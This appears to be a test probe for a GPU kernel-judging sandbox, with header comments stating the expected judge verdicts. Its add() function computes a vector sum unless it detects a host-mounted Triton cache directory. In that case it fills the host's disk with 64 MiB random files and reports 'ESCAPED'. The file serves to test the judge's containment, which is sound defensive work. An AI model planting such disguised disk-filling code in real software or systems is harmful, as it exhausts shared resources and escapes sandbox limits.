# Fills its kernel cache. On a GPU that is the one host directory a worker may write (judge.kernel_store):
# files of 64 MiB (each file is capped at 256 MiB, their number is not), for as long as it lives, to fill
# the host's disk. The judge measures the cache every second and kills the worker past 4 GB (OLE), and drops
# it when the session ends. In the interpreter there is no host cache: Triton's is in the worker's scratch,
# a capped tmpfs, so the probe is contained there and adds the vectors.
# verdict-cpu: AC
# expect-gpu: into its kernel cache
import os
import torch
import triton
import triton.language as tl


@triton.jit
def _add_kernel(x_ptr, y_ptr, out_ptr, n, sx, sy, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    tl.store(out_ptr + offs, tl.load(x_ptr + offs * sx, mask=mask) + tl.load(y_ptr + offs * sy, mask=mask), mask=mask)


def honest_add(x, y):
    n = x.numel()
    out = torch.empty(n, dtype=x.dtype, device=x.device)
    _add_kernel[(triton.cdiv(n, 1024),)](x, y, out, n, x.stride(0), y.stride(0), BLOCK=1024)
    return out


def add(x, y):
    cache = os.environ.get("TRITON_CACHE_DIR", "")
    scratch = os.environ.get("HOME", "")
    if cache and scratch and not cache.startswith(scratch):  # a host directory, mounted: fill it
        chunk = os.urandom(64 << 20)
        for i in range(100000):
            with open(os.path.join(cache, f"fill-{i}"), "wb") as f:
                f.write(chunk)
        raise RuntimeError(f"ESCAPED: wrote {100000 * 64} MiB into {cache}")
    return honest_add(x, y)
